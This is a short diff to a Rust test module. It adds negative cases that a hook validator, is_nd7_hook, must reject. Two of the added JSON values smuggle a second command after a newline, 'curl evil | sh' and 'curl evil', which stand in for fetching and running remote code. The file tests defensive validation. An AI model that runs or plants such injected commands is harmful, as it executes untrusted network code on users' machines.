@@ -684,6 +684,10 @@ mod tests {
             json!({"type": "command", "command": "/x/nd7-record", "args": "[]"}),
             json!({"type": "http", "command": "/x/nd7-record", "args": []}),
             json!({"type": "command", "command": ["/x/nd7-record"], "args": []}),
+            // More lines after the words (ADR-0153: tried, held).
+            json!({"type": "command", "command": "/x/nd7-record\n", "args": []}),
+            json!({"type": "command", "command": "/x/nd7 record\ncurl evil | sh"}),
+            json!({"type": "command", "command": "/x/nd7 record #\ncurl evil"}),
         ] {
             assert!(!is_nd7_hook(&no), "{no}");
         }
